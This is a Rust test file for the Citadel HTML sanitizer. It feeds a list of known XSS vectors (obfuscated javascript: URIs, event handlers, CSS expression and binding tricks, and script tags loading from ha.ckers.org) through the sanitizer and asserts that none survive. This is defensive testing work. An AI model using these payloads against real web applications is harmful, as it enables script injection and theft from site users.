//! XSS vector tests for the Citadel sanitizer
//!
//! Every vector is sanitized and the output is parsed again to check that no
//! script-execution route survived: no event handlers, no disallowed URI
//! schemes, no dangerous CSS.

use citadel_sanitizer::dom::element_name;
use citadel_sanitizer::safelist::ATTR_VAL_IS_URI;
use citadel_sanitizer::{is_safe_uri, sanitize, Fragment, SanitizeOptions};
use pretty_assertions::assert_eq;

const VECTORS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<iframe src=http://ha.ckers.org/scriptlet.html <",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<svg onload=alert(1)><circle></circle></svg>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    "<div style=\"-moz-binding: url(http://ha.ckers.org/xssmoz.xml#xss)\">x</div>",
    "<div style=\"behavior: url(xss.htc)\">x</div>",
    "<a href=\"http://example.com\" onclick=\"alert(1)\" onmouseover=\"alert(2)\">x</a>",
    "<img src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
];

fn assert_safe(output: &str, options_label: &str) {
    let fragment = Fragment::parse(output);
    for node in fragment.root().descendants() {
        if let Some(name) = element_name(&node) {
            assert!(name != "script" && name != "iframe" && name != "object", "<{}> survived ({})", name, options_label);
        }
        let element = match node.as_element() {
            Some(element) => element,
            None => continue,
        };
        for (key, attribute) in element.attributes.borrow().map.iter() {
            let name = (*key.local).to_ascii_lowercase();
            assert!(!name.starts_with("on"), "event handler {} survived in {:?}", name, output);
            if ATTR_VAL_IS_URI.contains(name.as_str()) {
                assert!(is_safe_uri(&attribute.value), "unsafe URI {:?} survived", attribute.value);
            }
            if name == "style" {
                let style = attribute.value.to_ascii_lowercase();
                assert!(!style.contains("expression("), "expression() survived in {:?}", output);
                assert!(!style.contains("javascript:"), "javascript url survived in {:?}", output);
                assert!(!style.contains("binding"), "binding survived in {:?}", output);
            }
        }
    }
}

#[test]
fn test_vectors_with_default_policy() {
    let options = SanitizeOptions::default();
    for vector in VECTORS {
        let output = sanitize(Some(*vector), &options).unwrap().unwrap();
        assert_safe(&output, "defaults");
    }
}

#[test]
fn test_vectors_with_permissive_attributes() {
    let options = SanitizeOptions::new()
        .tags(["a", "img", "div", "p", "svg", "circle", "math", "body"])
        .attributes(["href", "src", "style", "onclick", "onload", "onerror", "xlink:href", "title"]);
    for vector in VECTORS {
        let output = sanitize(Some(*vector), &options).unwrap().unwrap();
        assert_safe(&output, "permissive");
    }
}

#[test]
fn test_scheme_obfuscation_is_defeated() {
    let options = SanitizeOptions::default();
    let cases = [
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\" &#14;  javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"javascript&colon;alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"JAVASCRIPT:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"./this:that\">x</a>", "<a href=\"./this:that\">x</a>"),
        ("<a href=\"http://legit\">x</a>", "<a href=\"http://legit\">x</a>"),
        ("<a href=\"//example.com/path\">x</a>", "<a href=\"//example.com/path\">x</a>"),
        ("<a href=\"#top\">x</a>", "<a href=\"#top\">x</a>"),
        ("<a href=\"mailto:someone@example.com\">x</a>", "<a href=\"mailto:someone@example.com\">x</a>"),
    ];
    for (input, expected) in cases {
        assert_eq!(sanitize(Some(input), &options).unwrap().unwrap(), expected, "{}", input);
    }
}

#[test]
fn test_dangerous_css_is_removed() {
    let options = SanitizeOptions::new().attributes(["style"]);
    let cases = [
        ("<div style=\"width: expression(alert('XSS'));\">x</div>", "<div>x</div>"),
        ("<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>", "<div>x</div>"),
        ("<div style=\"behavior: url(xss.htc)\">x</div>", "<div>x</div>"),
        ("<div style=\"color: red; -moz-binding: url(x)\">x</div>", "<div style=\"color:red;\">x</div>"),
        (
            "<div style=\"background-image: url(http://example.com/a.png)\">x</div>",
            "<div style=\"background-image:url(http://example.com/a.png);\">x</div>",
        ),
    ];
    for (input, expected) in cases {
        assert_eq!(sanitize(Some(input), &options).unwrap().unwrap(), expected, "{}", input);
    }
}

#[test]
fn test_event_handlers_cannot_be_allow_listed() {
    let options = SanitizeOptions::new().attributes(["onclick", "onload", "title"]);
    let output = sanitize(Some("<p onclick=\"alert(1)\" title=\"t\">x</p>"), &options)
        .unwrap()
        .unwrap();
    assert_eq!(output, "<p title=\"t\">x</p>");
}

#[test]
fn test_deeply_nested_markup() {
    let depth = 1000;
    let html = format!("{}<script>alert(1)</script>x{}", "<span><form>".repeat(depth), "</form></span>".repeat(depth));
    let output = sanitize(Some(html.as_str()), &SanitizeOptions::default()).unwrap().unwrap();
    assert!(!output.contains("script"));
    assert!(output.contains('x'));
}

#[test]
fn test_deeply_nested_css_functions() {
    let options = SanitizeOptions::new().attributes(["style"]);
    let html = format!("<p style=\"color:{}red\">x</p>", "calc(".repeat(5_000));
    assert_eq!(sanitize(Some(html.as_str()), &options).unwrap().unwrap(), "<p>x</p>");

    let html = format!("<p style=\"width:{}1px{};color:red\">x</p>", "calc(".repeat(64), ")".repeat(64));
    assert_eq!(sanitize(Some(html.as_str()), &options).unwrap().unwrap(), "<p style=\"color:red;\">x</p>");
}
